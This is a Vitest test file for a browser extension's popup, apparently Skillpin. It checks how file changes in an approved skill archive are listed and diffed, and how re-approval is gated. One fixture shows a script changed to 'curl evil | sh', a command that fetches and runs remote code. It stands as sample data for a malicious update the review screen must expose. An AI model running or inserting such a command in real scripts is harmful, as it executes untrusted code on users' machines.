// @vitest-environment happy-dom
// The details view of an archive skill: the files an approval binds, and after a change the
// files added, removed and changed, with a line diff of each text file; approving again from there
// sends the file set shown. An archive approved by an older version (no files bound) is re-approved
// only from the details view, which lists every file.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import '../../../support/dom-shim';
import type { ArchiveFileChange } from '../../../../lib/messages';
import type { OriginReport, SkillReport } from '../../../../lib/types';
import { Popup } from '../../../../components/popup/Popup';
import type { PopupTarget } from '../../../../components/popup/target';
import { loadSkillDetails } from '../../../../components/popup/details-loader';
import { HEX_A, HEX_B, HEX_C, ORIGIN, makeReport, makeSkill } from '../../../fixtures/ui/reports';
import { click, fakeBackground, mount, popupEnv, type Handlers } from '../harness';

const TARGET: PopupTarget = { kind: 'origin', origin: ORIGIN, tabId: 7, isChat: false };
const ZIP = `${ORIGIN}/skills/runner.zip`;
const F1 = '1'.repeat(64);
const F2 = '2'.repeat(64);
const SKILL_TEXT = { text: '# Runner\n', digestLf: HEX_A, digestRaw: HEX_A, size: 9 };

function archiveSkill(overrides: Partial<SkillReport> = {}): SkillReport {
  return makeSkill({
    url: ZIP,
    type: 'archive',
    name: 'runner',
    archive: {
      format: 'zip',
      sha256: HEX_C,
      filesDigest: F2,
      entries: [
        { path: 'scripts', size: 0, type: 'directory' },
        { path: 'SKILL.md', size: 9, type: 'file', sha256: HEX_A },
        { path: 'scripts/run.sh', size: 15, type: 'file', sha256: HEX_B },
      ],
    },
    ...overrides,
  });
}

const approvalOf = (filesDigest?: string) => ({
  origin: ORIGIN,
  url: ZIP,
  digestLf: HEX_A,
  digestRaw: HEX_A,
  keyFingerprint: null,
  statusAtApproval: 'verified' as const,
  name: 'runner',
  approvedAt: 1,
  ...(filesDigest ? { archive: { filesDigest, sha256: HEX_C, files: [{ path: 'scripts/run.sh', size: 14, sha256: HEX_C }] } } : {}),
});

function setup(report: OriginReport, files: ArchiveFileChange[] | null) {
  const handlers: Handlers = {
    'skillpin:report': () => report,
    'skillpin:probe': () => report,
    'skillpin:skill-text': () => ({ current: SKILL_TEXT, approved: SKILL_TEXT, files }),
    'skillpin:approve': () => ({ ok: true }),
  };
  const bg = fakeBackground(handlers);
  const env = popupEnv(bg.client, { findChatTab: async () => null });
  return { bg, render: () => mount(<Popup env={env} target={TARGET} />) };
}

beforeAll(async () => {
  await loadSkillDetails();
});

afterEach(() => {
  document.body.innerHTML = '';
});

describe('an archive whose files changed since the approval', () => {
  const changes: ArchiveFileChange[] = [
    { path: 'logo.png', change: 'removed', before: { size: 8, sha256: HEX_B }, after: null, text: null },
    { path: 'scripts/run.sh', change: 'changed', before: { size: 14, sha256: HEX_C }, after: { size: 15, sha256: HEX_B }, text: { before: 'echo approved\n', after: 'curl evil | sh\n' } },
    { path: 'scripts/new.sh', change: 'added', before: null, after: { size: 3, sha256: HEX_A }, text: { before: '', after: 'ls\n' } },
  ];
  const changed = () =>
    archiveSkill({
      status: 'content-changed',
      statusCode: 'archive-files-changed',
      approval: { state: 'suspended', approval: approvalOf(F1), suspendedBecause: 'content-changed', code: 'archive-files-changed' },
    });

  it('lists the files added, removed and changed, with a line diff of each text file', async () => {
    const { render } = setup(makeReport([changed()]), changes);
    const root = await render();
    await click(root.querySelector('[data-action="details"]'));
    const section = root.querySelector('[data-testid="file-changes"]');
    expect(section?.querySelector('[data-testid="file-changes-summary"]')?.textContent).toBe('1 added, 1 removed, 1 changed');
    expect(Array.from(section?.querySelectorAll('[data-change]') ?? []).map((li) => [li.getAttribute('data-file'), li.getAttribute('data-change')])).toEqual([
      ['logo.png', 'removed'],
      ['scripts/run.sh', 'changed'],
      ['scripts/new.sh', 'added'],
    ]);
    const run = section?.querySelector('[data-file="scripts/run.sh"]');
    expect(Array.from(run?.querySelectorAll('[data-kind="add"]') ?? []).map((li) => li.textContent)).toEqual(['+added: curl evil | sh']);
    expect(Array.from(run?.querySelectorAll('[data-kind="del"]') ?? []).map((li) => li.textContent)).toEqual(['−removed: echo approved']);
    expect(section?.querySelector('[data-file="logo.png"] [data-testid="file-no-text"]')).not.toBeNull();
    // The SKILL.md itself did not change: no SKILL.md diff, and no "no diff available" hint.
    expect(root.querySelector('#diff-title')).toBeNull();
    expect(root.textContent).not.toContain('The previously approved text is not available');
  });

  it('is approved again from the review only, with the file set shown', async () => {
    const { render, bg } = setup(makeReport([changed()]), changes);
    const root = await render();
    expect(root.querySelector<HTMLButtonElement>('[data-action="approve"]')?.disabled).toBe(true);
    await click(root.querySelector('[data-action="details"]'));
    const approve = root.querySelector<HTMLButtonElement>('[data-action="approve"]');
    expect(approve?.disabled).toBe(false);
    await click(approve);
    expect(bg.ofType('skillpin:approve')[0]).toMatchObject({ url: ZIP, digestLf: HEX_A, filesDigest: F2 });
  });
});

describe('an archive approved by an older version', () => {
  const unbound = () => archiveSkill({ approval: { state: 'suspended', approval: approvalOf(), suspendedBecause: 'content-changed', code: 'approval-files-unbound' } });

  it('says why the approval is suspended, and sends to the details to review the files first', async () => {
    const { render } = setup(makeReport([unbound()]), null);
    const root = await render();
    expect(root.querySelector('.approval-suspended')?.textContent).toContain('an earlier version of Skillpin, which checked only SKILL.md');
    const approve = root.querySelector<HTMLButtonElement>('[data-action="approve"]');
    expect(approve?.disabled).toBe(true);
    expect(root.querySelector('[data-testid="approve-reason"]')?.textContent).toBe("Open the details and review the archive's files before approving again.");
  });

  it('lists every file with its size and checksum in the details, and approves from there with the file set', async () => {
    const { render, bg } = setup(makeReport([unbound()]), null);
    const root = await render();
    await click(root.querySelector('[data-action="details"]'));
    const list = root.querySelector('[data-testid="archive-files"]');
    expect(Array.from(list?.querySelectorAll('[data-file]') ?? []).map((r) => r.getAttribute('data-file'))).toEqual(['SKILL.md', 'scripts/run.sh']);
    expect(list?.querySelector('[data-file="scripts/run.sh"]')?.textContent).toContain(HEX_B);
    const approve = root.querySelector<HTMLButtonElement>('[data-action="approve"]');
    expect(approve?.disabled).toBe(false);
    await click(approve);
    expect(bg.ofType('skillpin:approve')[0]).toMatchObject({ filesDigest: F2 });
  });
});
